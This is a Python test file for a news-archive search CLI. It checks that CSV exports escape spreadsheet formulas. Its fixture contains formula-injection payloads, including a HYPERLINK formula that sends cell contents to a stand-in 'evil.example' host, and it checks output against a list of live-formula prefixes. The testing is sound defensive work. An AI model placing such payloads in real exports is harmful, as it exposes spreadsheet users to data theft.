"""No CSV written by a command has a cell that a spreadsheet would run."""

from __future__ import annotations

import ast
import csv
import io
import json
from pathlib import Path

import pytest

from tests.search_ui.arshif import Arshif

ROOT = Path(__file__).resolve().parent.parent.parent
FORMULA = '=HYPERLINK("https://evil.example/"&A1;"خبر")'


@pytest.fixture(scope="module")
def arshif(tmp_path_factory: pytest.TempPathFactory) -> Arshif:
    command = Arshif(tmp_path_factory.mktemp("formulas"))
    command("init")
    articles = [
        {"id": "=1+1", "title": FORMULA, "text": "زلزال في البحر", "source": "@SUM(1)", "author": "+1"},
        {"id": "=1+1", "title": FORMULA, "text": "-زلزال في الجبل", "source": "@SUM(1)", "author": "+1"},
        {"id": "b", "title": "\u200f=2+2", "text": "زلزال في البحر وآخر", "source": "\t=3", "section": "＝4"},
    ]
    command("add", "-", stdin="".join(json.dumps(one) + "\n" for one in articles).encode())
    command("index")
    (command.directory / "queries.csv").write_text('id,text\n"=cmd",زلزال\n', encoding="utf-8")
    (command.directory / "qrels").write_text("=cmd 0 %3D1+1 1\n", encoding="utf-8")
    return command


COMMANDS = {
    "search": ["search", "زلزال", "-f", "csv"],
    "search --all": ["search", "زلزال", "--all", "-f", "csv"],
    "suggest": ["suggest", "-f", "csv", "=HYP"],
    "show": ["show", "=1+1", "--similar", "-f", "csv"],
    "show --revisions": ["show", "=1+1", "--revisions", "-f", "csv"],
    "show --diff": ["show", "=1+1", "--diff", "-f", "csv"],
    "analyze": ["analyze", "-f", "csv", "=1+1", "@SUM(1)"],
    "batch": ["batch", "{}/queries.csv", "-f", "csv"],
    "evaluate": ["evaluate", "{}/queries.csv", "{}/qrels", "--per-query", "-f", "csv"],
    "status": ["status", "-f", "csv"],
}


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for cell in row]


@pytest.mark.parametrize("arguments", COMMANDS.values(), ids=COMMANDS)
def test_formulas_are_inert_in_every_csv(arshif: Arshif, arguments: list[str]) -> None:
    result = arshif.result(*(argument.replace("{}", str(arshif.directory)) for argument in arguments))
    assert result.exit_code == 0, result.output
    found = cells(result.stdout)
    assert found
    live = [cell for cell in found if cell.lstrip(" \u200f").startswith(("=", "@", "+", "\t", "\r", "＝"))]
    assert live == []


def test_the_titles_and_ids_are_there_with_an_apostrophe(arshif: Arshif) -> None:
    assert f"'{FORMULA}" in cells(arshif("suggest", "-f", "csv", "=HYP"))
    assert {"'=1+1", f"'{FORMULA}", "'@SUM(1)", "'+1"} <= set(cells(arshif("show", "=1+1", "-f", "csv")))
    assert "'=cmd" in cells(arshif("batch", f"{arshif.directory}/queries.csv", "-f", "csv"))


@pytest.mark.slow
def test_csv_is_written_in_one_place() -> None:
    """Only `csv_row` writes CSV, so that no writer can forget formulas."""
    writers = [
        f"{path.relative_to(ROOT)}:{node.lineno}"
        for package in ("corpus", "indexer", "search_ui")
        for path in (ROOT / package).rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Attribute)
        and node.attr in ("writer", "DictWriter")
        and ast.unparse(node.value) == "csv"
    ]
    assert [where.partition(":")[0] for where in writers] == ["search_ui/export/formats.py"]
